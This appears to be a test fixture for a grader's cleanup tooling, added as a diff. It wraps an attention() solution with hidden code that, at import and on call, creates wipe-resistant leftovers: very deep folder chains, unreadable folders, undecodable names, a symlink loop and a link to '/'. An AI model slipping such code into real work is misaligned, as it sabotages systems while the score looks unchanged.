@@ -1,0 +1,55 @@
+from ._snippets import SHA, solution_text
+
+ASSIGNMENT = SHA
+TAG = "deep"
+ATTACK = ("leftovers that stop a wipe: a 3,000-deep and a 6,000-deep chain of folders (past any recursion limit "
+          "and PATH_MAX), mode-000 folders nested in mode-000 folders, folders without write or search rights, "
+          "names in no encoding, names of 255 bytes, a link loop; at import and again from a call")
+CODE = solution_text(ASSIGNMENT) + '''
+import os
+
+
+def _chain(name, depth):
+    top = os.open(".", os.O_RDONLY)
+    try:
+        os.mkdir(name)
+        os.chdir(name)
+        for _ in range(depth):
+            os.mkdir("d")
+            os.chdir("d")
+        open("bottom", "w").close()
+        os.chmod(".", 0)
+    finally:
+        os.fchdir(top)
+        os.close(top)
+
+
+def _mess(tag):
+    try:
+        _chain("__MARK__-chain3k-" + tag, 3000)
+        _chain("__MARK__-chain6k-" + tag, 6000)
+        os.makedirs("__MARK__-locked-" + tag + "/a/b/c")
+        open("__MARK__-locked-" + tag + "/a/b/c/f", "w").close()
+        for folder, mode in (("a/b/c", 0), ("a/b", 0o500), ("a", 0o100), ("", 0)):
+            os.chmod(os.path.join("__MARK__-locked-" + tag, folder), mode)
+        os.mkdir(os.fsencode("__MARK__-") + b"\\xff\\xfe\\n\\x1b" + tag.encode())
+        os.mkdir("__MARK__" + "x" * (255 - len("__MARK__") - len(tag)) + tag)
+        os.symlink("loop-" + tag, "loop-" + tag)
+        os.symlink("/", "__MARK__-root-" + tag)
+        print("mess made", tag)
+    except OSError as exc:
+        print("mess stopped", tag, exc)
+
+
+_mess("import")
+_real_attention = attention
+
+
+def attention(Q, K, V, mask=None):
+    if not os.path.lexists("__MARK__-chain3k-call"):
+        _mess("call")
+    return _real_attention(Q, K, V, mask)
+'''
+TWIN = solution_text(ASSIGNMENT)
+EVIDENCE = "mess made import"
+SAME_SCORE = True
